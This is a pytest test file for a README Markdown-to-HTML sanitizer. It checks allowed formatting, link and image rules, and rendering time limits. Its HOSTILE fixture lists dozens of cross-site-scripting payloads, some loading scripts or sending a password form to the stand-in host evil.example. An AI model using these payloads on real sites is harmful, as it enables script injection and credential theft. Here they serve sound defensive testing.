"""READMEs: what people may write, and what they may not, however they write it."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from naru.errors import InvalidArgument
from naru.hub.catalog.rawhtml import TAGS
from naru.hub.catalog.readme import MAX_BYTES, render


class Page(HTMLParser):
    """The elements of a rendered README as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def values(self, name: str) -> list[str]:
        return [attributes[name] for _, attributes in self.found if name in attributes]


def assert_harmless(html: str) -> Page:
    page = Page(html)
    for tag, attributes in page.found:
        assert tag in TAGS, tag
        assert set(attributes) <= TAGS[tag] | {"rel"}, (tag, attributes)
    for href in page.values("href"):
        assert re.match(r"https?://|mailto:|#readme-", href, re.I), href
    assert all(src.lower().startswith("https://") for src in page.values("src"))
    assert all(own.startswith("readme-") for own in page.values("id") + page.values("name"))
    assert all(re.fullmatch(r"language-[\w+#.-]+", value) for value in page.values("class"))
    assert set(page.values("rel")) <= {"nofollow noopener noreferrer ugc"}
    assert "<!--" not in html
    return page


# -- what people may write --------------------------------------------------------------------------------------------


def test_markdown_with_tables_strikethrough_tasks_and_code() -> None:
    html = render(
        "Some *text*, ~~old~~.\n\n| a | b | c |\n|:-:|--:|---|\n| 1 | `2` | 3 |\n\n- [x] done\n- [ ] to do\n- [y] text\n\n"
        "```c++ title\nif (a < b && c) {}\n```\n"
    )
    assert "<p>Some <em>text</em>, <s>old</s>.</p>" in html
    assert '<th align="center">a</th>\n<th align="right">b</th>\n<th>c</th>' in html
    assert '<td align="center">1</td>\n<td align="right"><code>2</code></td>' in html
    assert "<li>☑ done</li>\n<li>☐ to do</li>\n<li>[y] text</li>" in html
    assert '<pre><code class="language-c++">if (a &lt; b &amp;&amp; c) {}\n</code></pre>' in html


def test_headings_can_be_linked_to() -> None:
    html = render("# Getting *started* with `naru`!\n# Same\n# Same\n## Same-1\n# ???\nÜber uns\n===\n[go](#same-1)")
    assert Page(html).values("id") == [
        "readme-getting-started-with-naru", "readme-same", "readme-same-1", "readme-same-1-1", "readme-section",
        "readme-über-uns",
    ]  # fmt: skip
    assert Page(html).values("href") == ["#readme-same-1"]


def test_links_lead_out_and_say_that_they_are_not_ours() -> None:
    page = assert_harmless(
        render(
            "[a](https://a.example/?x=1&y=2) [b](HTTP://b.example) <c@d.example> [d](/r/d) [e](e.md) [f](//f.example) [g](#)"
        )
    )
    assert page.values("href") == ["https://a.example/?x=1&y=2", "HTTP://b.example", "mailto:c@d.example"]
    assert page.values("rel") == ["nofollow noopener noreferrer ugc"] * 7
    assert page.text.strip() == "a b c@d.example d e f g"


def test_images_come_by_https_or_not_at_all() -> None:
    html = render("![a](https://a.example/a.svg 'A') ![b](http://b.example/b.png) ![c](c.png) ![d](//d.example/d.png)")
    page = assert_harmless(html)
    assert page.values("src") == ["https://a.example/a.svg"]
    assert page.values("alt") == ["a", "b", "c", "d"]


def test_raw_html_of_the_harmless_kind() -> None:
    html = render(
        '<p align="center"><a href="https://a.example"><img src="https://a.example/logo.svg" width="50%" alt="Logo"></a></p>\n\n'
        "<!-- hidden -->\n\n<details open><summary>More &amp; more</summary>\n\n**bold**\n\n</details>\n\n"
        'Press <kbd>Ctrl</kbd>, H<sub>2</sub>O<br>\n<a name="old"></a><h2 id="top">Top</h2>\n'
    )
    assert '<p align="center"><a href="https://a.example"' in html
    assert '<img src="https://a.example/logo.svg" width="50%" alt="Logo">' in html
    assert '<details open=""><summary>More &amp; more</summary>\n<p><strong>bold</strong></p>\n</details>' in html
    assert "Press <kbd>Ctrl</kbd>, H<sub>2</sub>O<br>" in html
    assert 'name="readme-old"' in html and 'id="readme-top"' in html
    assert "hidden" not in html
    assert_harmless(html)


def test_what_is_left_open_does_not_leave_its_place() -> None:
    assert render("- <b>one\n- two\n\nthree").endswith("</ul>\n<p>three</p>\n")
    assert "</b></li>\n<li>two</li>" in render("- <b>one\n- two")
    assert render("a</div></p></b></li> b") == "<p>a b</p>\n"
    assert render("*<b>a*b</b>") == "<p><em><b>a</b></em>b</p>\n"


def test_nothing_and_nonsense() -> None:
    assert render("") == ""
    assert render("\0") == "<p>\ufffd</p>\n"
    assert render("\u202e\ufeff<b") == "<p>\u202e\ufeff&lt;b</p>\n"
    with pytest.raises(InvalidArgument, match="README: character 3 is not Unicode"):
        render("ab\ud800")


# -- what they may not ------------------------------------------------------------------------------------------------

HOSTILE = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script
>alert(1)</script
>
<img src=x onerror=alert(1)>
<img src="https://a.example/a.png" onload="alert(1)" style="position:fixed">
<img/src="x"/onerror=alert(1)>
<img src='x' onerror='alert(1)'//
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><img src=x onerror=alert(1)></template>
<style>body{display:none}</style>
<div style="background:url(javascript:alert(1))" class="admin">x</div>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="//evil.example/x.swf">
<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<details ontoggle=alert(1) open>x</details>
<marquee onstart=alert(1)>x</marquee>
<textarea><img src=x onerror=alert(1)></textarea>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;&#97;vascript&colon;alert(1)">x</a>
<a href="&#x6A&#x61vascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="vbscript:x">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="blob:https://a.example/x">x</a>
<a href="https:evil">x</a>
<a href="https://a.example" target="_blank" rel="opener" ping="//evil.example" download>x</a>
<a href="https://a.example/\njavascript:alert(1)">x</a>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="https://a.example/a.png 1x, javascript:alert(1) 2x">
<a id="csrf" name="csrf">x</a>
<img id=cookie name=cookie><form name=body></form>
<div id="readme- x" id="a b">x</div>
<p title="--><script>alert(1)</script>">x</p>
<!--><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?php echo "<script>alert(1)</script>" ?>
<b title='"><img src=x onerror=alert(1)>'>x</b>
<b title=a"><img src=x onerror=alert(1)>">x</b>
<code class="language-x admin">x</code>
<td colspan="99999999">x</td>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<java\tscript:alert(1)>)
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example "x\\" onmouseover=alert(1) y=\\"")
![x](javascript:alert(1))
![x](data:image/png;base64,AAAA)
![x" onerror="alert(1)](https://a.example/a.png)
<javascript:alert(1)>
<https://a.example/"><script>alert(1)</script>>
[x]: javascript:alert(1) "x"
```" onload="alert(1)
x
```
```x"><script>alert(1)</script>
x
```
# <img src=x onerror=alert(1)>
# " onload="alert(1)
|<script>|a|
|-|-|
|</script>|<img src=x onerror=alert(1)>|
"""
CASES = [case for case in re.split(r"\n(?=[<\[!#|]|```(?!\n))", HOSTILE) if case.strip()]


@pytest.mark.parametrize("case", CASES)
def test_hostile(case: str) -> None:
    for markdown in (
        case,
        f"text {case} text",
        f"> - {case}",
        f"<div>\n{case}",
        f"*{case}*",
        case.replace("\n", "\n\n"),
    ):
        assert_harmless(render(markdown))


def test_no_script_is_left_of_one() -> None:
    assert render("<script>alert(1)\n\nalert(2)</script>\n\nafter") == "\n<p>after</p>\n"
    assert render("<style>p { color: red }</style>") == ""
    # Inside a paragraph the tags go and the words stay: it is Markdown that decides what is text there.
    assert render("a <script>alert(1)</script>") == "<p>a alert(1)</p>\n"


FRAGMENTS = st.sampled_from(
    [*CASES, *"<>\"'&[]()!*_~`#|-:/= \t\n", "\n\n", "<b>", "</b>", "<p>", "</p>", "<table>", "<td>", "--", "]]>"]
)


@given(st.lists(FRAGMENTS | st.text(max_size=5), max_size=30))
def test_hostile_pieces_in_any_order(pieces: list[str]) -> None:
    markdown = "".join(pieces)
    if not any("\ud800" <= character <= "\udfff" for character in markdown):
        assert_harmless(render(markdown))


# -- how long it may take ---------------------------------------------------------------------------------------------

UNITS = [
    ">", "> ", "[", "![", "](", "[a](", "*", "**a", "*_", "`", "a`", "<", "~~a", "&amp;", "\\", "- ", "1. ", "# a\n", "- a\n",
    "[a]: b\n", "[a]\n", "a\n\n", "|a\n|-\n", "|", "- - - a\n", "<div>", "<b>", "<ul><li>", "<table><i>x</i>", "<!--", "a<!--",
    "<a b=\"", "<p>x",
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("unit", UNITS)
def test_half_a_megabyte_of_anything_is_soon_rendered_or_refused(unit: str) -> None:
    begin = time.process_time()
    try:
        html = render(unit * (MAX_BYTES // len(unit)))
    except InvalidArgument as error:
        assert str(error).startswith("README: too much ")
    else:
        assert len(html) < 8 * MAX_BYTES
    assert time.process_time() - begin < 4  # a second or so, on a machine with nothing else to do


@pytest.mark.slow
@pytest.mark.parametrize("rest", ["<p>x</p>" * 9_000, "x\n\n" * 9_000, "<table>" + "x<br>" * 14_000, "- x\n" * 7_000])
def test_tags_left_open_are_not_repeated_without_end(rest: str) -> None:
    begin = time.process_time()
    html = render("<p>" + "".join(f"<b id=x{n}>" for n in range(10_000)) + "\n\n" + rest)
    assert len(html) < 100 * len(rest)
    assert time.process_time() - begin < 4


def test_a_long_address_used_often_is_refused() -> None:
    with pytest.raises(InvalidArgument, match="its links, written out"):
        render(f"[a]: https://a.example/{'x' * 100_000}\n\n" + "[a] " * 1_000)
    with pytest.raises(InvalidArgument, match="its links, written out"):
        render(f"[a]: b '{'x' * 100_000}'\n\n" + "![a] " * 1_000)
    assert render("[a]: https://a.example\n\n" + "[a] " * 1_000).count("<a ") == 1_000


@pytest.mark.slow
def test_a_large_but_honest_readme_is_taken() -> None:
    line = "- [a name](https://example.com/some/path) - what it does, in a few words, for whoever wants it.\n"
    assert render("# List\n" + line * (MAX_BYTES // len(line) - 1)).count("<li>") > 5_000
    assert render("    x = 1  # code\n" * 28_000).count("\n") > 28_000
    with pytest.raises(InvalidArgument, match=f"more than {MAX_BYTES}"):
        render("é" * (MAX_BYTES // 2) + "x")
